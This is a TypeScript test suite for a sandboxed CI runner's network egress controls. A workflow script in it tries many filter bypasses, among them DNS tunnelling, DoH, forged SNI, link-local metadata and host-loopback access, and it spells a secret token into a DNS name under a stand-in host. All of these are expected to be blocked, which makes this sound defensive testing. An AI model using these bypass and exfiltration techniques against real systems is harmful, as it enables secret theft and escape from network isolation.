import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { copyFileSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { join } from 'node:path';
import { DEFAULT_LIMITS, LABEL_OWNER, managedLabels, processTag, startServiceContainer, type ServiceContainer } from '../../src/sandbox';
import { image, root, sandbox, tempDir } from '../sandbox/helpers';
import { startOutsideWorld, type OutsideWorld } from './outside-world';

const cli = join(root, 'dist/cli.js');
let world: OutsideWorld;
let loopback: Server;
let loopbackHits = 0;
let otherJob: ServiceContainer | undefined;
let otherJobAddress = '';
const otherNetwork = `stockade-otherjob-${process.pid}`;

before(async () => {
  world = await startOutsideWorld();
  loopback = createServer((_q, r) => (loopbackHits++, r.end('host loopback\n')));
  await new Promise<void>((r) => loopback.listen(0, '127.0.0.1', r));
  // "Another job": a container listening on its own job network.
  const sb = await sandbox();
  await sb.deps.engine.createNetwork(otherNetwork, managedLabels(sb.ownerTag), { internal: true });
  otherJob = await startServiceContainer(
    sb.deps,
    {
      name: `${otherNetwork}-svc`,
      image,
      argv: ['python3', '-m', 'http.server', '8000'],
      env: { PATH: '/usr/bin:/bin' },
      workdir: '/tmp',
      mounts: [],
      limits: { ...DEFAULT_LIMITS, timeoutMs: 300_000 },
      network: { mode: 'internal', network: otherNetwork },
      security: { seccompProfilePath: sb.seccompProfilePath, readOnlyRoot: true },
      labels: managedLabels(sb.ownerTag),
    },
    () => undefined,
  );
  otherJobAddress = await sb.deps.engine.containerAddress(otherJob.id, otherNetwork);
});

after(async () => {
  await otherJob?.stop();
  const sb = await sandbox();
  await sb.deps.engine.removeNetwork(otherNetwork).catch(() => undefined);
  loopback?.close();
  world?.stop();
});

function repo(workflow: string): string {
  const dir = tempDir();
  mkdirSync(join(dir, '.github/workflows'), { recursive: true });
  writeFileSync(join(dir, '.github/workflows/ci.yml'), workflow);
  copyFileSync(world.certFile, join(dir, 'ca.pem'));
  return dir;
}

interface RunJson {
  conclusion: string;
  jobs: Array<{ conclusion: string; error?: string; egress?: { dnsAllowed: number; dnsRefused: number; connectionsAllowed: number; connectionsRefused: number; bytesOut: number; refusals: string[] }; steps: Array<{ name: string; conclusion: string; log: string[] }> }>;
}

function run(dir: string, ...args: string[]): Promise<{ code: number | null; json: RunJson; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn('node', [cli, 'run', '-C', dir, '--json', '--upstream-dns', world.dns, '--permit-range', world.subnet, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    child.stdout.on('data', (c: Buffer) => (out += c));
    child.stderr.on('data', (c: Buffer) => (err += c));
    child.on('error', reject);
    child.on('exit', (code) => {
      try {
        resolve({ code, json: JSON.parse(out) as RunJson, stderr: err });
      } catch {
        reject(new Error(`no JSON from stockade run (exit ${code}): ${out.slice(0, 2000)} ${err.slice(-2000)}`));
      }
    });
  });
}

const ALLOW = ['--allow-domain', 'allowed.test', '--allow-domain', 'meta.test', '--allow-domain', 'loopback.test'];

test('egress through the sidecar: the allowlisted name works over HTTP and HTTPS; every way around it fails, is logged, and reaches nothing', async () => {
  const n = world.subnet.split('.')[2];
  const port = (loopback.address() as { port: number }).port;
  const script = String.raw`
set -u
try() { local what=$1; shift; if "$@" >/tmp/out 2>&1; then echo "REACHED $what: $(head -c 200 /tmp/out)"; else echo "BLOCKED $what: $(head -c 200 /tmp/out | tr '\n' ' ')"; fi; }
c() { curl -sS -f --max-time 5 --cacert ca.pem "$@"; }
try https-proxy c https://allowed.test/
try http-proxy c http://allowed.test/
try https-transparent c --noproxy '*' https://allowed.test/
try http-transparent c --noproxy '*' http://allowed.test/
try direct-ip c --noproxy '*' http://${world.other}/
try direct-ip-via-proxy c https://${world.other}/
try dns-other getent hosts other.test
try other-via-proxy c https://other.test/
try tunnel python3 -c '
import os, random, socket, struct, sys
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
answered = 0
for i in range(20):
    labels = [os.urandom(30).hex() for _ in range(3)] + ["other", "test"]
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack(">HH", 16, 1)
    s.sendto(q, (ns, 53))
    r = s.recv(512)
    answered += (r[3] & 0xF) == 3
print("NXDOMAIN", answered); sys.exit(0 if answered < 20 else 1)'
try dns-direct-to-upstream python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\x05other\x04test\x00" + struct.pack(">HH", 1, 1), ("${world.dns}", 53))
print(s.recv(512))'
try dns-over-tcp-to-sidecar python3 -c '
import socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x05other\x04test\x00" + struct.pack(">HH", 16, 1)
s = socket.create_connection((ns, 53), 3); s.sendall(struct.pack(">H", len(q)) + q); r = s.recv(512)
import sys; sys.exit(0 if (r[5] & 0xF) == 0 and r[9] > 0 else 1)'
try doh-to-ip c --noproxy '*' https://${world.dns}/dns-query
try doh-to-ip-via-proxy c https://${world.dns}/dns-query
try ipv6 c --noproxy '*' -g http://[${world.ipv6}]/
try link-local c --noproxy '*' http://${world.linkLocal}/
try link-local-by-name c http://meta.test/
try link-local-by-name-transparent c --noproxy '*' http://meta.test/
try host-loopback-by-name c http://loopback.test/
try host-loopback-port c http://loopback.test:${port}/
try host-loopback-gateway c --noproxy '*' http://10.0.2.2:${port}/
try host-loopback-hostname c --noproxy '*' http://host.containers.internal:${port}/
try other-job c --noproxy '*' http://${otherJobAddress}:8000/
try other-job-via-proxy c http://${otherJobAddress}:8000/
try forged-host c --noproxy '*' -H 'Host: other.test' http://allowed.test/
try forged-sni c --noproxy '*' --connect-to other.test:443:allowed.test:443 https://other.test/
try connect-other-port c -p https://allowed.test:8443/
try dns-over-tls-direct python3 -c 'import socket; socket.create_connection(("${world.dns}", 853), 3)'
try dns-over-tls-via-proxy c -p https://allowed.test:853/
try icmp python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(3)
s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"stockade", ("${world.other}", 0)); print(s.recv(64))'
try quic-to-sidecar python3 -c '
import socket
ip = socket.gethostbyname("allowed.test")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect((ip, 443))
s.send(b"\xc0" + b"\x00" * 1199); print(s.recv(64))'
try quic-direct python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(b"\xc0" + b"\x00" * 1199, ("${world.allowed}", 443)); print(s.recv(64))'
`;
  const dir = repo(`on: push
jobs:
  net:
    runs-on: ubuntu-latest
    steps:
      - run: |
${script.split('\n').map((l) => `          ${l}`).join('\n')}
`);
  const before = world.events().length;
  const { code, json, stderr } = await run(dir, ...ALLOW);
  const job = json.jobs[0]!;
  const log = job.steps.flatMap((s) => s.log).join('\n');
  assert.equal(code, 0, `${job.error ?? ''}\n${log}\n${stderr.slice(-3000)}`);
  if (process.env.STK_DEBUG) console.log(log);
  const lines = new Map([...log.matchAll(/^(REACHED|BLOCKED) ([\w-]+): ?(.*)$/gm)].map((m) => [m[2]!, { verdict: m[1]!, detail: m[3]! }]));
  for (const ok of ['https-proxy', 'http-proxy', 'https-transparent', 'http-transparent']) {
    assert.equal(lines.get(ok)?.verdict, 'REACHED', `${ok}: ${lines.get(ok)?.detail}`);
    assert.match(lines.get(ok)!.detail, new RegExp(`hello from ${world.allowed.replace(/\./g, '\\.')} over http`));
  }
  const attacks = ['direct-ip', 'direct-ip-via-proxy', 'dns-other', 'other-via-proxy', 'tunnel', 'dns-direct-to-upstream', 'dns-over-tcp-to-sidecar', 'doh-to-ip', 'doh-to-ip-via-proxy', 'ipv6', 'link-local', 'link-local-by-name', 'link-local-by-name-transparent', 'host-loopback-by-name', 'host-loopback-port', 'host-loopback-gateway', 'host-loopback-hostname', 'other-job', 'other-job-via-proxy', 'forged-host', 'forged-sni', 'connect-other-port', 'dns-over-tls-direct', 'dns-over-tls-via-proxy', 'icmp', 'quic-to-sidecar', 'quic-direct'];
  for (const a of attacks) assert.equal(lines.get(a)?.verdict, 'BLOCKED', `${a} must be blocked: ${lines.get(a)?.detail ?? 'no line'}`);

  // The upstream resolver saw allowlisted names only: nothing of the tunnel, nothing of other.test.
  const seen = world.events().slice(before);
  const queried = new Set(seen.filter((e) => e.ev === 'dns').map((e) => e.name));
  assert.ok(queried.has('allowed.test'), [...queried].join(' '));
  for (const q of queried) assert.ok(['allowed.test', 'meta.test', 'loopback.test'].includes(q!), `upstream saw a query for ${q}`);
  // Only the allowed server got connections; the other server, the resolver's own 443 and the link-local host none.
  const touched = seen.filter((e) => e.ev === 'connection').map((e) => e.address);
  assert.ok(touched.every((a) => a === world.allowed), `connections reached ${touched.join(' ')}`);
  assert.equal(loopbackHits, 0, 'the host loopback service was reached');

  // Every refusal the sidecar saw is counted and described; the run's JSON carries them.
  const e = job.egress!;
  assert.ok(e.connectionsAllowed >= 4 && e.bytesOut > 0, JSON.stringify(e));
  const text = e.refusals.join('\n');
  for (const expected of [/DNS A other\.test: not-allowlisted/, /DNS TXT [0-9a-f]{60}\.[0-9a-f]{60}\.[0-9a-f]{60}\.other\.test: not-allowlisted/, new RegExp(`connect ${world.other.replace(/\./g, '\\.')}:443: address-literal`), /tls other\.test:443: not-allowlisted/, /http other\.test:80: not-allowlisted/, /meta\.test:80: denied-address/, /loopback\.test:80: denied-address/, new RegExp(`loopback\\.test:${port}: port`), /connect allowed\.test:8443: port/, /connect allowed\.test:853: port/]) {
    assert.match(text, expected);
  }
  assert.ok(e.dnsRefused >= 22, `dns refused ${e.dnsRefused}`);
  // Direct attempts never reach the sidecar; the step's network namespace counted them
  // (direct-ip, dns-direct-to-upstream, doh-to-ip, ipv6, link-local, host-loopback-gateway,
  // other-job, dns-over-tls-direct, icmp, quic-direct: 10 at least). host.containers.internal is
  // not in the step's /etc/hosts (issue 13, item 11): that attempt ends as a refused DNS query.
  const direct = /^(\d+) direct connections to addresses with no route in step "Run /m.exec(text);
  assert.ok(direct && Number(direct[1]) >= 10, text);
  assert.match(text, /DNS A host\.containers\.internal: not-allowlisted/);
  assert.match(stderr, /blocked network attempt: DNS A other\.test: not-allowlisted/);
});

test('no allowlist: a step has no interface but loopback and no resolver; a workflow may narrow the allowlist, never widen it', async () => {
  const none = await run(
    repo(`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          tail -n +3 /proc/net/dev | awk '{print $1}' | tr -d ':' | sort | tr '\\n' ' '; echo
          if curl -sS --max-time 3 http://${world.allowed}/; then echo REACHED; fi
`),
  );
  assert.equal(none.code, 0, none.stderr);
  const log = none.json.jobs[0]!.steps.flatMap((s) => s.log).join('\n');
  assert.match(log, /^lo $/m);
  assert.doesNotMatch(log, /REACHED/);
  // No sidecar, but the blocked direct attempt is counted all the same.
  const blocked = none.json.jobs[0]!.egress!;
  assert.equal(blocked.dnsRefused, 0);
  assert.ok(blocked.connectionsRefused >= 1, JSON.stringify(blocked));
  assert.match(blocked.refusals.join('\n'), /direct connections? to addresses with no route in step "Run tail/);

  const narrowed = await run(
    repo(`on: push
env:
  STOCKADE_EGRESS: allowed.test
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -sS -f --max-time 5 http://allowed.test/ && ! curl -sS -f --max-time 5 http://meta.test/
`),
    ...ALLOW,
  );
  assert.equal(narrowed.code, 0, narrowed.json.jobs[0]!.steps.flatMap((s) => s.log).join('\n'));
  assert.match(narrowed.json.jobs[0]!.egress!.refusals.join('\n'), /meta\.test.*not-allowlisted/);

  // A secret spelt into a refused DNS name is masked in the refusal descriptions (issue 13, item 15).
  const spelt = await run(
    repo(`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: getent hosts "\${{ secrets.TOKEN }}.other.test" || echo refused
`),
    ...ALLOW,
    '--secret',
    'TOKEN=tok4711secret',
  );
  const described = JSON.stringify(spelt.json.jobs[0]!.egress);
  assert.match(described, /\*\*\*\.other\.test/, described);
  assert.doesNotMatch(described + spelt.stderr, /tok4711secret/);

  const widened = await run(
    repo(`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      STOCKADE_EGRESS: allowed.test, other.test
    steps:
      - run: echo should not run
`),
    ...ALLOW,
  );
  assert.equal(widened.code, 1);
  assert.match(widened.json.jobs[0]!.error ?? '', /STOCKADE_EGRESS: egress to other\.test is not allowed here: the administrator allows allowed\.test, meta\.test, loopback\.test/);
  assert.doesNotMatch(JSON.stringify(widened.json), /should not run\n/);
});

test('egress audit mode: every name is reached and recorded, private ranges stay refused, the summary proposes the allowlist; STOCKADE_EGRESS: none still means no network', async () => {
  const wf = `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -sS -f --max-time 5 --cacert ca.pem https://allowed.test/ >/dev/null && echo "allowed.test reached"
          curl -sS -f --max-time 5 http://other.test/ >/dev/null && echo "other.test reached"
          curl -sS -f --max-time 5 http://meta.test/ >/dev/null && echo "meta.test REACHED" || echo "meta.test refused"
`;
  const audited = await run(repo(wf), '--egress-audit');
  const log = audited.json.jobs[0]!.steps.flatMap((s) => s.log).join('\n');
  assert.equal(audited.code, 0, log);
  assert.match(log, /allowed\.test reached/);
  assert.match(log, /other\.test reached/, 'a name on no allowlist is reached in audit mode');
  assert.match(log, /meta\.test refused/, 'a link-local address stays refused in audit mode');
  const e = audited.json.jobs[0]!.egress as { audited?: string[]; refusals: string[] };
  assert.deepEqual(e.audited?.filter((n) => n !== 'meta.test'), ['allowed.test', 'other.test']);
  assert.match(e.refusals.join('\n'), /meta\.test.*(denied|range|address)/i);
  // The human summary proposes the flags that enforce the same.
  const human = await new Promise<string>((done) => {
    const child = spawn('node', [cli, 'run', '-C', repo(wf), '--upstream-dns', world.dns, '--permit-range', world.subnet, '--egress-audit'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (c: Buffer) => (out += c));
    child.on('exit', () => done(out));
  });
  assert.match(human, /egress audit: \d+ names reached: .*allowed\.test, .*other\.test/);
  assert.match(human, /allowlist to enforce the same: --allow-domain allowed\.test .*--allow-domain other\.test/);
  const none = await run(repo(`on: push
env:
  STOCKADE_EGRESS: none
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: tail -n +3 /proc/net/dev | awk '{print $1}' | tr -d ':' | sort | tr '\\n' ' '; echo
`), '--egress-audit');
  assert.equal(none.code, 0, none.stderr);
  assert.match(none.json.jobs[0]!.steps.flatMap((s) => s.log).join('\n'), /^lo $/m);
});

test('kill -9 of the runner mid-job with egress: the next start removes the sidecar, the step container and the job network', async () => {
  const dir = repo('on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: sleep 300\n');
  const child = spawn('node', [cli, 'run', '-C', dir, '--upstream-dns', world.dns, '--permit-range', world.subnet, ...ALLOW], { stdio: 'ignore' });
  const sb = await sandbox();
  const tagOf = () => processTag(child.pid!);
  let tag: string | undefined;
  const owned = async () => ({
    containers: (await sb.deps.engine.listContainers(`${LABEL_OWNER}=${tag}`)).length,
    networks: (await sb.deps.engine.listNetworks(`${LABEL_OWNER}=${tag}`)).length,
    volumes: (await sb.deps.engine.listVolumes(`${LABEL_OWNER}=${tag}`)).length,
  });
  const deadline = Date.now() + 60_000;
  // The sidecar and the step's container both exist: the job is in its step.
  while (Date.now() < deadline) {
    tag ??= tagOf();
    if (tag && (await owned()).containers >= 2) break;
    await new Promise((r) => setTimeout(r, 200));
  }
  assert.ok(tag, 'the runner started');
  const during = await owned();
  assert.ok(during.containers >= 2 && during.networks === 1, JSON.stringify(during));
  child.kill('SIGKILL');
  await new Promise((r) => child.once('exit', r));
  const again = await run(repo('on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: "true"\n'));
  assert.equal(again.code, 0, again.stderr);
  assert.deepEqual(await owned(), { containers: 0, networks: 0, volumes: 0 });
});

/** The runner user's processes: pid, state and command, zombies included. */
function runnerProcesses(): Array<{ pid: number; ppid: number; zombie: boolean; cmd: string }> {
  const uid = Number(readFileSync('/etc/passwd', 'utf8').split('\n').find((l) => l.startsWith('stockade:'))!.split(':')[2]);
  const out: Array<{ pid: number; ppid: number; zombie: boolean; cmd: string }> = [];
  for (const d of readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
    try {
      if (statSync(`/proc/${d}`).uid !== uid) continue;
      const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
      const cmd = stat.slice(stat.indexOf('(') + 1, stat.lastIndexOf(')'));
      const rest = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
      out.push({ pid: Number(d), ppid: Number(rest[1]), zombie: rest[0] === 'Z', cmd });
    } catch {
      // gone meanwhile
    }
  }
  return out;
}

test('nothing outlives its job, Podman\'s helpers included: after 20 jobs with egress, no new zombie and no new process of the runner user', async () => {
  const job = repo(`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -sS -f --max-time 5 -o /dev/null http://allowed.test/ && echo reached
`);
  // The first job starts the network-namespace keeper (once per host): the baseline is taken after it.
  const first = await run(job, ...ALLOW);
  assert.equal(first.code, 0, first.stderr);
  await sleep(1000);
  const before = runnerProcesses();
  for (let i = 0; i < 20; i++) {
    const r = await run(job, ...ALLOW);
    assert.equal(r.code, 0, r.stderr);
  }
  await sleep(1500);
  const after = runnerProcesses();
  const zombies = (l: typeof before) => l.filter((p) => p.zombie).map((p) => p.pid);
  const newZombies = zombies(after).filter((p) => !zombies(before).includes(p));
  assert.deepEqual(newZombies.map((p) => after.find((x) => x.pid === p)!.cmd), [], 'no zombie left by 20 jobs with egress');
  // Not even one waiting for its parent: no zombie is a child of the service or its helpers.
  const parents = new Set(after.filter((p) => !p.zombie).map((p) => p.pid));
  assert.deepEqual(after.filter((p) => p.zombie && parents.has(p.ppid)).map((p) => `${p.pid} ${p.cmd} (parent ${p.ppid})`), [], 'the service has no unreaped child');
  const live = (l: typeof before) => l.filter((p) => !p.zombie).map((p) => p.pid);
  const extra = live(after).filter((p) => !live(before).includes(p));
  assert.deepEqual(extra.map((p) => after.find((x) => x.pid === p)!.cmd), [], 'no process of the runner user beyond those before the 20 jobs');
  process.stderr.write(`20 jobs with egress: ${newZombies.length} new zombies, ${extra.length} new processes; runner user has ${live(after).length} live processes (service, keeper, pause)\n`);
});
